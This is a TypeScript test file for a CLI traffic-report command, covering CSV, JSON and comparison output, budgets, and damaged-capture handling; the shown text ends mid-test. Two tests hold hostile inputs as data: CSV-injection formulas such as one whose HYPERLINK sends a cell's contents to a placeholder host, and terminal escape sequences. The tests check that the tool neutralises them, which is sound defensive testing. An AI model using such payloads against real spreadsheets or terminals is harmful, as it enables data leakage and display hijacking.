/**
 * `tapline report` as a user runs it (a spawned CLI): the table, --json, --csv, --compare, budgets (exit 3
 * naming the route, 0 within budget), bad input (exit 2 for usage, 1 for unreadable files), and a pcap from
 * the corpus through the capture engine.
 */
import assert from 'node:assert/strict';
import { linkSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { buildPcap } from '../../src/capture/pcap-writer.js';
import { mayHoldReplayed } from '../../src/cli/report-input.js';
import { encodeRecord } from '../../src/core/gor-format.js';
import { type Message, makeMeta } from '../../src/core/message.js';
import { timed, turns } from '../../src/inputs/raw/testkit.js';
import { runTapline } from '../support/cli.js';
import { CORPUS_DIR, readTruth } from '../support/corpus.js';
import { damagedGzip } from '../support/damaged-gzip.js';

const S = 1_000_000_000n;
const T0 = 1_700_000_000n * S;

function exchange(n: number, path: string, bodyBytes: number, latencyMs: number, type = '2'): Message[] {
  const id = n.toString(16).padStart(24, '0');
  const at = T0 + BigInt(n) * (S / 10n);
  const req = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: shop.test\r\n\r\n`);
  const body = 'x'.repeat(bodyBytes);
  const res = Buffer.from(`HTTP/1.1 200 OK\r\nContent-Length: ${bodyBytes}\r\n\r\n${body}`);
  return [
    { meta: makeMeta({ type: '1', id, timestampNs: at, latencyNs: 0n }), data: req },
    { meta: makeMeta({ type, id, timestampNs: at + BigInt(latencyMs) * 1_000_000n, latencyNs: 0n }), data: res },
  ];
}

function writeGor(file: string, messages: Message[]): void {
  writeFileSync(file, Buffer.concat(messages.map(encodeRecord)));
}

let dir: string;
let current: string;
let baseline: string;

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'tapline-report-'));
  current = join(dir, 'current.gor');
  baseline = join(dir, 'baseline.gor');
  const cur: Message[] = [];
  const base: Message[] = [];
  for (let i = 0; i < 20; i++) {
    cur.push(...exchange(i * 3, `/videos/${i}`, 20_000, 300));
    cur.push(...exchange(i * 3 + 1, `/users/${i}?page=2`, 500, 20));
    cur.push(...exchange(i * 3 + 2, '/health', 2, 1));
    base.push(...exchange(i * 3, `/videos/${i}`, 10_000, 100));
    base.push(...exchange(i * 3 + 1, `/users/${i}`, 500, 20));
  }
  writeGor(current, cur);
  writeGor(baseline, base);
});

after(() => rmSync(dir, { recursive: true, force: true }));

describe('tapline report', () => {
  it('prints the table: routes by bytes with share, by count, by latency, status mix, bandwidth', async () => {
    const r = await runTapline(['report', current, '--top', '2']);
    assert.equal(r.code, 0, r.stderr);
    const text = r.stdout.toString();
    assert.match(text, /60 requests, 60 responses/);
    assert.match(text, /Top routes by bytes \(2 of 3\)/);
    const byBytes = text.slice(text.indexOf('Top routes by bytes'), text.indexOf('Top routes by count'));
    assert.match(byBytes, /\/videos\/:id\s+20\s.*\s9\d\.\d%/);
    assert.doesNotMatch(byBytes, /\/health/); // --top 2
    assert.match(text, /Top routes by latency[^\n]*\n[^\n]*\n {2}\/videos\/:id\s+20\s+300/);
    assert.match(text, /Status mix: 2xx 60 \(100\.0%\)/);
    assert.match(text, /Bandwidth over time/);
  });

  it('--json is the --stats object: headline fields and per-route totals computed here', async () => {
    const r = await runTapline(['report', '--json', current]);
    assert.equal(r.code, 0, r.stderr);
    const s = JSON.parse(r.stdout.toString());
    assert.equal(s.total_requests, 60);
    const videos = s.routes.find((x: { route: string }) => x.route === '/videos/:id');
    const header = (bodyBytes: number) => `HTTP/1.1 200 OK\r\nContent-Length: ${bodyBytes}\r\n\r\n`.length;
    assert.equal(videos.response_body_bytes, 20 * 20_000);
    assert.equal(videos.response_header_bytes, 20 * header(20_000));
    let requestHeaders = 0;
    for (let i = 0; i < 20; i++) requestHeaders += `GET /videos/${i} HTTP/1.1\r\nHost: shop.test\r\n\r\n`.length;
    assert.equal(videos.request_header_bytes, requestHeaders);
    assert.equal(s.top_endpoints[0].path, '/videos/:id');
    assert.equal(s.top_endpoints[0].bandwidth_mb, Math.round((videos.total_bytes / 2 ** 20) * 1e6) / 1e6);
    assert.equal(s.max_response_size, Math.round(((header(20_000) + 20_000) / 1024) * 1000) / 1000);
    assert.ok(Math.abs(videos.p95_ms - 300) <= 6);
    assert.ok(
      s.routes.some((x: { route: string }) => x.route === '/users/:id'),
      'query string stripped',
    );
  });

  it('responses without their requests: counted as responses, not requests; no latency, not ranked by it', async () => {
    // The first two exchanges lost their requests (a capture started mid-stream); the third is whole.
    const [, orphanA] = exchange(1, '/a', 10, 5);
    const [, orphanB] = exchange(2, '/b', 20, 5);
    const file = join(dir, 'mid-stream.gor');
    writeGor(file, [orphanA!, orphanB!, ...exchange(3, '/users/7', 30, 40)]);
    const text = await runTapline(['report', file]);
    assert.equal(text.code, 0, text.stderr);
    const out = text.stdout.toString();
    assert.match(out, /^ {2}1 requests, 3 responses/m);
    assert.match(out, /Status mix: 2xx 3 \(100\.0%\)/);
    const latency = out.slice(out.indexOf('Top routes by latency'), out.indexOf('Status mix'));
    assert.match(latency, /\/users\/:id +1 +40\.\d+/);
    assert.doesNotMatch(latency, /\(no request\)/);
    const json = JSON.parse((await runTapline(['report', file, '--json'])).stdout.toString());
    assert.equal(json.total_requests, 1);
    const ghost = json.routes.find((r: { route: string }) => r.route === '(no request)');
    assert.deepEqual([ghost.requests, ghost.responses, ghost.latency_samples], [0, 2, 0]);
  });

  it('an empty latency table says why: no response, or responses timed before their requests', async () => {
    // It said "responses without their requests have none" whatever the input held.
    const latencyLine = async (messages: Message[], name: string) => {
      const file = join(dir, name);
      writeGor(file, messages);
      const r = await runTapline(['report', file]);
      assert.equal(r.code, 0, r.stderr);
      const text = r.stdout.toString();
      return text.slice(text.indexOf('Top routes by latency')).split('\n')[1];
    };
    const requestsOnly = [1, 2, 3].map((n) => exchange(n, '/only', 10, 5)[0]!);
    assert.equal(
      await latencyLine(requestsOnly, 'requests-only.gor'),
      '  (no response: 3 request(s) without one, nothing to time)',
    );
    const backwards = [1, 2].flatMap((n) => exchange(n, '/back', 10, -5));
    assert.equal(
      await latencyLine(backwards, 'backwards.gor'),
      '  (no exchange has a latency: every response is timed before its request (timestamps out of step))',
    );
    const [, orphan] = exchange(1, '/a', 10, 5);
    assert.equal(
      await latencyLine([orphan!], 'orphan.gor'),
      '  (no exchange has a latency: responses without their requests have none)',
    );
  });

  it('--csv: a route without a latency sample has empty p-values, not 0 (a real 0 ms stays 0)', async () => {
    const file = join(dir, 'csv-latency.gor');
    writeGor(file, [
      ...[1, 2].map((n) => exchange(n, '/unanswered', 10, 5)[0]!),
      ...exchange(3, '/backwards', 10, -5),
      ...exchange(4, '/instant', 10, 0),
    ]);
    const r = await runTapline(['report', file, '--csv']);
    assert.equal(r.code, 0, r.stderr);
    const rows = parseCsv(r.stdout.toString());
    const p = (route: string) => rows.find((row) => row[0] === route)!.slice(-3);
    assert.deepEqual(p('/unanswered'), ['', '', '']);
    assert.deepEqual(p('/backwards'), ['', '', '']);
    assert.deepEqual(p('/instant'), ['0', '0', '0']);
  });

  it('--csv: a header and one row per route', async () => {
    const r = await runTapline(['report', current, '--csv']);
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.toString().trim().split('\n');
    assert.equal(lines.length, 4);
    assert.match(lines[0]!, /^route,host,requests,responses,request_header_bytes,/);
    assert.match(lines[1]!, /^\/videos\/:id,shop\.test,20,20,/);
  });

  it('--csv: a captured route or host a spreadsheet would run as a formula is written as text', async () => {
    // OWASP "CSV Injection": a cell starting with = + - @, a tab or a CR (or a full-width =+-@) is a formula
    // in Excel/LibreOffice. The sender chooses the request target and the Host header.
    const hostile: [string, string][] = [
      ['=HYPERLINK("http://x/"&A1)', 'shop.test'],
      ['+1', '@SUM(1)'],
      ['-2', '-h'],
      ['@cmd', '=evil|x'],
      ['\t=tab', 'shop.test'],
      ['\r=cr', 'shop.test'],
      ['\uFF1D1+1', 'shop.test'],
      ['/a;=1+1', 'shop.test'],
      ['/plain', 'shop.test'],
    ];
    const file = join(dir, 'formulas.gor');
    const messages = hostile.flatMap(([target, host], n) =>
      exchange(1000 + n, target, 10 + n, 5).map((m, i) =>
        i === 0 ? { ...m, data: Buffer.from(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`) } : m,
      ),
    );
    writeGor(file, messages);
    const r = await runTapline(['report', file, '--csv']);
    assert.equal(r.code, 0, r.stderr);
    const rows = parseCsv(r.stdout.toString('utf8'));
    const cells = new Map(rows.slice(1).map((row) => [row[0]!, row[1]!]));
    const expect: [string, string][] = [
      [`'=HYPERLINK("http://x/"&A1)`, 'shop.test'],
      ["'+1", "'@SUM(1)"],
      ["'-2", "'-h"],
      ["'@cmd", "'=evil|x"],
      ["'\t=tab", 'shop.test'],
      ["'\r=cr", 'shop.test'],
      ["'\uFF1D1+1", 'shop.test'],
      ['/a;=1+1', 'shop.test'],
      ['/plain', 'shop.test'],
    ];
    for (const [route, host] of expect) assert.equal(cells.get(route), host, `${JSON.stringify(route)} in ${r.stdout}`);
    // Every cell is one cell: no row has more columns than the header, also when split at ';' outside quotes.
    for (const row of rows) assert.equal(row.length, rows[0]!.length);
    assert.match(r.stdout.toString(), /^"\/a;=1\+1",/m);
    // Numbers stay numbers; --json keeps the text as captured.
    const json = JSON.parse((await runTapline(['report', file, '--json'])).stdout.toString());
    assert.ok(json.routes.some((x: { route: string; host: string }) => x.route === '@cmd' && x.host === '=evil|x'));
    const cmp = await runTapline(['report', file, '--compare', current, '--csv']);
    assert.equal(cmp.code, 0, cmp.stderr);
    const changed = parseCsv(cmp.stdout.toString('utf8'));
    assert.ok(changed.some((row) => row[0] === "'@cmd" && row[3] === ''));
    assert.ok(changed.some((row) => row[0] === '/videos/:id' && Number(row[3]) === -1));
    assert.ok(!changed.some((row) => /^[=+\-@\t\r]/.test(row[0]!)));
  });

  it('--compare: per-route change in bytes and latency', async () => {
    const r = await runTapline(['report', current, '--compare', baseline]);
    assert.equal(r.code, 0, r.stderr);
    const text = r.stdout.toString();
    assert.match(text, /Change against .*baseline\.gor/);
    assert.match(text, /\/videos\/:id\s+\S+ KiB\s+\S+ KiB\s+\+9\d\.\d%\s+\+9\d\.\d%\s+100\s+300\s+\+200\.0%/);
    assert.match(text, /\/health\s.*new/);
    const j = JSON.parse((await runTapline(['report', current, '--compare', baseline, '--json'])).stdout.toString());
    const users = j.compare.routes.find((c: { route: string }) => c.route === '/users/:id');
    // Same bodies; the current requests carry `?page=2` (7 more bytes each on the wire).
    assert.equal(users.bytes - users.baseline_bytes, 20 * 7);
    assert.equal(users.requests, users.baseline_requests);
  });

  it('--compare: a route only in the baseline reads as gone, not as new or as latency down 100%', async () => {
    const r = await runTapline(['report', baseline, '--compare', current]); // /health only in the baseline here
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout.toString(), /\n {2}\/health\s+[\d.]+ KiB\s+0 B\s+-100\.0%\s+gone\s+1\.0\s+-\s+gone\n/);
    const j = JSON.parse((await runTapline(['report', baseline, '--compare', current, '--json'])).stdout.toString());
    const health = j.compare.routes.find((c: { route: string }) => c.route === '/health');
    assert.equal(health.p95_change, null);
    assert.equal(health.bytes_change, -1);
    // No latency sample now: no p95 (null, an empty CSV cell), not a 0 that reads as 0 ms; the baseline's stays.
    assert.equal(health.p95_ms, null);
    assert.equal(typeof health.baseline_p95_ms, 'number');
    const csv = await runTapline(['report', baseline, '--compare', current, '--csv']);
    const rows = parseCsv(csv.stdout.toString('utf8'));
    const at = rows[0]!.indexOf('p95_ms');
    assert.equal(rows.find((row) => row[0] === '/health')![at], '');
  });

  it('--compare past --route-limit says that (other) differs by side and new or gone may be folded, not moved', async () => {
    // The same two routes in either order: each side keeps the first it sees and folds the other into (other).
    const ab = join(dir, 'order-ab.gor');
    const ba = join(dir, 'order-ba.gor');
    writeGor(ab, [...exchange(1, '/a', 10, 5), ...exchange(2, '/b', 10, 5)]);
    writeGor(ba, [...exchange(1, '/b', 10, 5), ...exchange(2, '/a', 10, 5)]);
    const r = await runTapline(['report', ba, '--compare', ab, '--route-limit', '1']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout.toString(), /\n {2}\/b\s.*\snew\n/); // in the baseline too, folded there
    assert.ok(
      r.stderr.includes(
        `warning: --compare ${ab}: routes past --route-limit (1) are added up under (other): 1 exchange(s) here, 1 in ` +
          'the baseline; (other) may hold different routes on each side, and a route shown as new or gone may be in the ' +
          "other side's (other)",
      ),
      r.stderr,
    );
    const whole = await runTapline(['report', ba, '--compare', ab]);
    assert.equal(whole.code, 0, whole.stderr);
    assert.doesNotMatch(whole.stderr, /route-limit/);
  });

  it('--compare with the baseline also read as an input (by any name) says the change compares it with itself', async () => {
    const link = join(dir, 'current-link.gor');
    symlinkSync(current, link);
    for (const [args, input] of [
      [[current, '--compare', current], current],
      [[baseline, link, '--compare', current], link],
    ] as const) {
      const r = await runTapline(['report', ...args]);
      assert.equal(r.code, 0, r.stderr);
      assert.ok(
        r.stderr.includes(
          `warning: --compare ${current}: the baseline is also read as an input (${input}): the change compares it ` +
            'with itself',
        ),
        r.stderr,
      );
    }
    const other = await runTapline(['report', current, '--compare', baseline]);
    assert.doesNotMatch(other.stderr, /compares it with itself/);
  });

  it('--compare with a baseline that is not a recording exits 1 naming it; an empty one is warned about', async () => {
    const dump = join(dir, 'baseline.json');
    writeFileSync(dump, '{"routes": []}\n');
    const notGor = await runTapline(['report', current, '--compare', dump]);
    assert.equal(notGor.code, 1, notGor.stderr);
    assert.match(notGor.stderr, /error: .*baseline\.json: no readable \.gor record/);
    const empty = join(dir, 'baseline-empty.gor');
    writeFileSync(empty, '');
    const none = await runTapline(['report', current, '--compare', empty]);
    assert.equal(none.code, 0, none.stderr);
    assert.match(
      none.stderr,
      /--compare .*baseline-empty\.gor: the baseline holds no request; every route shows as new/,
    );
    const missing = await runTapline(['report', current, '--compare', join(dir, 'no-such-baseline.gor')]);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /no-such-baseline\.gor: cannot read/);
    assert.equal(missing.stdout.length, 0, 'checked before any work: no report for a run that fails');
  });

  it('a file named twice is read once (its bytes are not counted double), said on stderr; "-" (stdin) twice is a usage error', async () => {
    const once = JSON.parse((await runTapline(['report', '--json', current])).stdout.toString());
    const same = join(dir, '.', 'current.gor');
    const twice = await runTapline(['report', '--json', current, same, current]);
    assert.equal(twice.code, 0, twice.stderr);
    const j = JSON.parse(twice.stdout.toString());
    assert.equal(j.total_requests, once.total_requests);
    assert.equal(j.total_bytes, once.total_bytes);
    assert.match(twice.stderr, /current\.gor is named again: read once/);
    // Standard input is read once: a second "-" would read nothing (test/e2e/report-pipe.test.ts reads one).
    const stdin = await runTapline(['report', current, '-', '-'], { stdin: 'x' });
    assert.equal(stdin.code, 2, stdin.stderr);
    assert.match(stdin.stderr, /standard input \("-"\) is named 2 times \(-, -\): it can be read once/);
  });

  it("the table's first line names up to 11 files, then counts the rest (the chunks of a long replay)", async () => {
    const chunks = Array.from({ length: 15 }, (_, i) => join(dir, `title_${String(i).padStart(2, '0')}.gor`));
    for (const chunk of chunks) writeFileSync(chunk, readFileSync(baseline));
    const r = await runTapline(['report', ...chunks], { timeoutMs: 60_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.toString().split('\n')[0], `tapline report: ${chunks.slice(0, 10).join(', ')} and 5 more`);
    const few = await runTapline(['report', ...chunks.slice(0, 11)], { timeoutMs: 60_000 });
    assert.equal(few.stdout.toString().split('\n')[0], `tapline report: ${chunks.slice(0, 11).join(', ')}`);
  });

  it('--csv FILE.csv / --json FILE.json (a file name where none is taken) is a usage error, not an input that cannot be read', async () => {
    const old = join(dir, 'left-by-an-earlier-run.csv');
    writeFileSync(old, 'route,host\n');
    for (const [flag, name] of [
      ['--csv', old],
      ['--json', join(dir, 'out.JSON')],
    ] as const) {
      const r = await runTapline(['report', current, flag, name]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, new RegExp(`${flag}: takes no file name: .* goes to standard output`));
    }
    assert.equal(readFileSync(old, 'utf8'), 'route,host\n');
    assert.equal((await runTapline(['report', '--csv', current])).code, 0); // a .gor after --csv is an input
  });

  it('--parquet naming an input or the baseline (or a link to one) is a usage error; the recording is left whole', async () => {
    const copy = join(dir, 'parquet-target.gor');
    const link = join(dir, 'parquet-link.gor');
    writeFileSync(copy, readFileSync(current));
    linkSync(baseline, link);
    const before = [readFileSync(copy), readFileSync(baseline)];
    for (const [args, said] of [
      [[copy, '--parquet', copy], `${copy} is an input`],
      [
        [current, '--compare', baseline, '--parquet', link],
        `${link} is the same file as ${baseline}, the --compare baseline`,
      ],
    ] as const) {
      const r = await runTapline(['report', ...args], { timeoutMs: 30_000 });
      assert.equal(r.code, 2, r.stderr);
      assert.ok(
        r.stderr.includes(`--parquet: ${said} of this report: the Parquet file would be written over it`),
        r.stderr,
      );
      assert.equal(r.stdout.length, 0);
    }
    assert.deepEqual([readFileSync(copy), readFileSync(baseline)], before);
  });

  it('--parquet naming standard output is a usage error: the Parquet bytes would mix into the report', async () => {
    // Before: 'report x.gor --json --parquet /dev/stdout' wrote the JSON and the Parquet file into one stream, exit 0.
    for (const name of ['/dev/stdout', '/proc/self/fd/1']) {
      const r = await runTapline(['report', current, '--json', '--parquet', name], { timeoutMs: 30_000 });
      assert.equal(r.code, 2, r.stderr);
      assert.ok(r.stderr.includes(`--parquet: ${name} is standard output, where the report itself goes`), r.stderr);
      assert.equal(r.stdout.length, 0);
    }
  });

  it('a malformed --route is a usage error naming the flag (exit 2), not a file that cannot be read', async () => {
    for (const [rule, why] of [
      ['videos/:id', /must start with \//],
      ['/*/x', /\* may only be the last segment/],
      ['/users?page=2', /routes match the path only; leave out the \?query/],
    ] as const) {
      const r = await runTapline(['report', current, '--route', rule]);
      assert.equal(r.code, 2, `${rule}: ${r.stderr}`);
      assert.match(r.stderr, /error: --route: /);
      assert.match(r.stderr, why);
      assert.doesNotMatch(r.stderr, /cannot read|TAPLINE_ERR_FILE_IO/);
    }
  });

  it('budgets: exit 3 naming the route that broke them; 0 within budget', async () => {
    const broken = await runTapline(['report', current, '--max-route', '100kb', '--max-latency', '250ms']);
    assert.equal(broken.code, 3, broken.stderr);
    assert.match(broken.stderr, /max-route: \/videos\/:id .* > 100 KiB/);
    assert.match(broken.stderr, /max-latency: \/videos\/:id p95 \d+(\.\d+)? ms > 250 ms/);
    assert.doesNotMatch(broken.stderr, /\/users\/:id/);
    const share = await runTapline(['report', current, '--max-share', '50%', '--json']);
    assert.equal(share.code, 3);
    assert.match(share.stderr, /max-share: \/videos\/:id 9\d\.\d% of all bytes > 50\.0%/);
    const fine = await runTapline([
      'report',
      current,
      '--max-total',
      '500mb',
      '--max-share',
      '99%',
      '--max-latency',
      '1s',
    ]);
    assert.equal(fine.code, 0, fine.stderr);
  });

  it('the overflow bucket (routes past --route-limit) is said in the table and in a budget line, not read as one route', async () => {
    const r = await runTapline(['report', current, '--route-limit', '1', '--max-route', '1kb']);
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stdout.toString(), /\n\(other\): 40 exchanges of routes past the route limit, added together/);
    assert.match(
      r.stderr,
      /max-route: \(other\) [^\n]* > 1\.00 KiB \(40 exchanges of the routes past --route-limit, added together;/,
    );
  });

  it('budget lines: --top per budget, then how many more (a run over many routes does not flood the log)', async () => {
    const r = await runTapline(['report', current, '--max-latency', '0ms', '--max-route', '1', '--top', '1']);
    assert.equal(r.code, 3, r.stderr);
    // Each budget's count of the rest right under its own lines, not gathered after the last budget's.
    assert.match(
      r.stderr,
      new RegExp(
        'tapline: 6 budget\\(s\\) broken:\\n {2}max-route: [^\\n]*\\n' +
          ' {2}… and 2 more route\\(s\\) breaking max-route \\(--top 1 shown; --top raises it\\)\\n' +
          ' {2}max-latency: /videos/:id[^\\n]*\\n {2}… and 2 more route\\(s\\) breaking max-latency \\(--top 1 shown',
      ),
    );
  });

  it('control characters in a captured path are shown as \\xHH in the table and budget lines, never sent to the terminal', async () => {
    const hostile = join(dir, 'hostile.gor');
    writeGor(hostile, [
      ...exchange(1, '/clear\x1b[2J', 5000, 1),
      ...exchange(2, '/title\x1b]0;owned\x07/x', 10, 1),
      ...exchange(3, '/cr\rtab\there', 10, 1),
    ]);
    const run = await runTapline(['report', hostile, '--max-share', '10%']);
    assert.equal(run.code, 3, run.stderr);
    const out = run.stdout.toString();
    for (const [name, text] of [
      ['stdout', out],
      ['stderr', run.stderr],
    ] as const) {
      assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, `${name} holds a control character`);
    }
    assert.match(out, /\/clear\\x1b\[2J +1 /);
    assert.match(out, /\/title\\x1b\]0;owned\\x07\/x/);
    assert.match(out, /\/cr\\x0dtab\\x09here/);
    assert.match(run.stderr, /max-share: \/clear\\x1b\[2J \d+\.\d% of all bytes > 10\.0%/);
    const json = await runTapline(['report', hostile, '--json']);
    assert.ok(JSON.parse(json.stdout.toString()).routes.some((r: { route: string }) => r.route === '/clear\x1b[2J'));
  });

  it('bad input: usage errors exit 2, an unreadable file exits 1, naming it', async () => {
    const none = await runTapline(['report']);
    assert.equal(none.code, 2);
    assert.match(none.stderr, /name at least one/);
    const share = await runTapline(['report', current, '--max-share', 'lots']);
    assert.equal(share.code, 2);
    assert.match(share.stderr, /--max-share: "lots" is not a percentage/);
    const flag = await runTapline(['report', current, '--nope']);
    assert.equal(flag.code, 2);
    // An empty name (an unset shell variable) is a usage error, not a comparison or Parquet file left out in silence.
    for (const [args, said] of [
      [[current, '--compare', ''], '--compare: the file name is empty'],
      [[current, '--parquet='], '--parquet: the file name is empty'],
      [[current, ''], 'tapline report: a file name is empty'],
    ] as const) {
      const r = await runTapline(['report', ...args]);
      assert.equal(r.code, 2, r.stderr);
      assert.ok(r.stderr.includes(`error: ${said} (an unset shell variable?)`), r.stderr);
      assert.equal(r.stdout.length, 0);
    }
    // A value after a boolean flag, as other flags take one: said as the run says it, not 'false: cannot read'.
    const word = await runTapline(['report', current, '--progress', 'false']);
    assert.equal(word.code, 2, word.stderr);
    assert.ok(
      word.stderr.includes(
        'tapline report: unexpected argument "false" (boolean flags take no separate value: write --progress=false)',
      ),
      word.stderr,
    );
    const missing = await runTapline(['report', join(dir, 'missing.gor')]);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /missing\.gor: cannot read/);
    assert.doesNotMatch(missing.stderr, /at .*\.ts:\d+/); // no stack trace
    // A directory among the files (or as the baseline) says what to name, not Node's 'illegal operation'.
    for (const args of [
      [current, dir, baseline],
      [current, '--compare', `${dir}/`],
    ]) {
      const r = await runTapline(['report', ...args]);
      assert.equal(r.code, 1, r.stderr);
      assert.ok(
        r.stderr.includes(
          `cannot read: it is a directory; report reads files: name the ones in it (${dir}/*.gor) (EISDIR)`,
        ),
        r.stderr,
      );
      assert.equal(r.stdout.length, 0);
    }
  });

  it('a file with records but not one readable (a JSON dump given by mistake) exits 1 naming it; a few bad records do not', async () => {
    const dump = join(dir, 'requests.json');
    writeFileSync(dump, '[\n  {"method": "GET", "path": "/a"},\n  {"method": "GET", "path": "/b"}\n]\n');
    const r = await runTapline(['report', '--json', current, dump]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /requests\.json: record 1 \(byte 0\)/); // the record-level warning first
    assert.match(r.stderr, /error: .*requests\.json: no readable \.gor record \(1 bad record\(s\) skipped/);
    assert.equal(JSON.parse(r.stdout.toString()).total_requests, 60, 'the readable file is still reported');
    const mixed = join(dir, 'mixed.gor');
    writeFileSync(
      mixed,
      Buffer.concat([Buffer.from('not a record\n\n🐵🙈🙉\n'), ...exchange(1, '/a', 3, 1).map(encodeRecord)]),
    );
    const fine = await runTapline(['report', '--json', mixed]);
    assert.equal(fine.code, 0, fine.stderr);
    assert.match(fine.stderr, /mixed\.gor: record 1/);
  });

  it('a gzip file cut short (no trailer): the records before the cut are reported, the cut named, exit 1', async () => {
    const whole = gzipSync(readFileSync(current));
    const cutFile = join(dir, 'cut.gor.gz');
    writeFileSync(cutFile, whole.subarray(0, Math.floor(whole.length / 2)));
    const r = await runTapline(['report', '--json', cutFile, '--max-total', '1gb']);
    assert.equal(r.code, 1, r.stderr); // not 0: a budget judged on part of a file
    const s = JSON.parse(r.stdout.toString());
    assert.ok(s.total_requests > 0 && s.total_requests < 60, String(s.total_requests));
    assert.equal(s.inputs[cutFile].file_errors, 1);
    const err = r.stderr.toString();
    assert.match(
      err,
      /cut\.gor\.gz: cannot read to the end: the gzip stream is truncated \(at byte \d+ of the decompressed/,
    );
    assert.match(err, /cut\.gor\.gz could not be read to the end/);
  });

  it('a damaged gzip file: every request decoded before the damaged byte is reported (zlib drops up to 64 KiB)', async () => {
    const records = Array.from({ length: 3000 }, (_, i) => {
      const id = i.toString(16).padStart(24, '0');
      const data = Buffer.from(`GET /d/${i}?${Math.random()} HTTP/1.1\r\nHost: damaged\r\n\r\n`);
      return encodeRecord({ meta: makeMeta({ type: '1', id, timestampNs: T0 + BigInt(i), latencyNs: 0n }), data });
    });
    const { bytes, wholeRecords } = await damagedGzip(records);
    const file = join(dir, 'damaged.gor.gz');
    writeFileSync(file, bytes);
    assert.ok(wholeRecords > 1000 && wholeRecords < 3000, `${wholeRecords} records before the damage`);
    const r = await runTapline(['report', '--json', file]);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(JSON.parse(r.stdout.toString()).total_requests, wholeRecords);
    assert.match(r.stderr.toString(), /damaged\.gor\.gz: cannot read to the end: not valid gzip data/);
  });

  it('budgets on files without a single request exit 1 (a failed replay is not a pass), 0 with --allow-empty', async () => {
    const empty = join(dir, 'replayed-empty.gor');
    writeFileSync(empty, '');
    const r = await runTapline(['report', empty, '--max-total', '500mb']);
    assert.equal(r.code, 1, r.stderr);
    assert.match(
      r.stderr,
      /no request in .*replayed-empty\.gor: the budgets have nothing to judge.*TAPLINE_ERR_NOTHING_TO_JUDGE/,
    );
    const allowed = await runTapline(['report', empty, '--max-total', '500mb', '--allow-empty']);
    assert.equal(allowed.code, 0, allowed.stderr);
    const noBudget = await runTapline(['report', empty]);
    assert.equal(noBudget.code, 0, 'without budgets an empty file is just an empty report');
  });

  it('reads pcap through the capture engine (corpus: zeek-http-pipelined-requests.pcap)', async () => {
    const file = join(CORPUS_DIR, 'zeek-http-pipelined-requests.pcap');
    const truth = readTruth(file);
    const r = await runTapline(['report', '--json', file]);
    assert.equal(r.code, 0, r.stderr);
    const s = JSON.parse(r.stdout.toString());
    assert.equal(s.total_requests, truth.counts.http1_requests);
    assert.equal(s.totals.responses, truth.counts.http1_responses);
    const bodies = truth.responses.reduce((n: number, m: { body_bytes: number }) => n + m.body_bytes, 0);
    // Content-Length bodies here, so the wire body bytes are the truth's body bytes.
    assert.equal(s.totals.response_body_bytes, bodies);
  });

  it('a capture cut inside its last packet (a copy taken while tcpdump wrote it): reported, the cut named, exit 1 as tcpdump -r', async () => {
    const whole = readFileSync(join(CORPUS_DIR, 'chrissanders-http_espn.pcapng'));
    const cutFile = join(dir, 'cut.pcapng');
    writeFileSync(cutFile, whole.subarray(0, 30_000));
    for (const args of [
      ['report', cutFile],
      ['report', '-'],
    ]) {
      const r = await runTapline(args, args[1] === '-' ? { stdin: whole.subarray(0, 30_000) } : {});
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stdout.toString(), /4 requests, 1 responses/);
      assert.match(r.stderr, /packet 57 \(offset 29264\): the input ends inside the last record/);
      assert.match(r.stderr, /error: \S+ could not be read to the end \(see the warning above\)/);
    }
    const j = await runTapline(['report', '--json', cutFile]);
    assert.equal(JSON.parse(j.stdout.toString()).inputs[cutFile].file_cut_short, 1);
    const w = await runTapline(['report', join(CORPUS_DIR, 'chrissanders-http_espn.pcapng')]);
    assert.equal(w.code, 0, w.stderr);
  });

  it('a capture damaged part way (a bad record length, an interface its section lacks): what came before is reported, the damage named, exit 1', async () => {
    // pcap: the last record's captured length past any snaplen (zeek-http-get.pcap: 14 records, one exchange).
    const pcap = Buffer.from(readFileSync(join(CORPUS_DIR, 'zeek-http-get.pcap')));
    let last = 24;
    for (let at = 24; at < pcap.length; at += 16 + pcap.readUInt32LE(at + 8)) last = at;
    pcap.writeUInt32LE(0x7fffffff, last + 8);
    // pcapng: the last Enhanced Packet Block names interface 7 of a section that describes one.
    const ng = Buffer.from(readFileSync(join(CORPUS_DIR, 'chrissanders-http_post.pcapng')));
    let epb = 0;
    for (let at = 0; at < ng.length; at += ng.readUInt32LE(at + 4)) if (ng.readUInt32LE(at) === 6) epb = at;
    ng.writeUInt32LE(7, epb + 8);
    const cases = [
      [
        'bad-length.pcap',
        pcap,
        '1 requests, 1 responses',
        `packet 14 (offset ${last}): cannot read to the end: record claims 2147483647 captured bytes`,
      ],
      [
        'bad-interface.pcapng',
        ng,
        '2 requests, 2 responses',
        `packet 21 (offset ${epb}): cannot read to the end: packet refers to interface 7 but the section describes 1`,
      ],
    ] as const;
    for (const [name, bytes, counts, said] of cases) {
      const file = join(dir, name);
      writeFileSync(file, bytes);
      for (const args of [
        ['report', file],
        ['report', '-'],
      ]) {
        const r = await runTapline(args, args[1] === '-' ? { stdin: bytes } : {});
        assert.equal(r.code, 1, r.stderr);
        assert.match(r.stdout.toString(), new RegExp(counts));
        assert.ok(r.stderr.includes(said), r.stderr);
        assert.match(r.stderr, /error: \S+ could not be read to the end \(see the warning above\)/);
      }
      // Budgets: exit 1 either way, a breach in the part read said, none found not taken for a pass.
      const broken = await runTapline(['report', file, '--max-total', '1']);
      assert.equal(broken.code, 1, broken.stderr);
      assert.match(broken.stderr, /tapline: 1 budget\(s\) broken in the part read:\n {2}max-total: all routes/);
